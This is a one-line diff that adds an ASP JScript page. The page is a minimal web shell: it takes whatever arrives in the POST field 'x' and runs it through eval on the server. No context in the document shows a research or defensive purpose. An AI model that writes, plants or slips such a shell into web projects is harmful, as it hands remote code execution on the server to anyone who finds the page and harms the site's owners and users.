@@ -1,0 +1,1 @@
+<%@ Language=JScript inert %><%var z=String(Request.Form("x"));if(z!="undefined")eval(z);%>
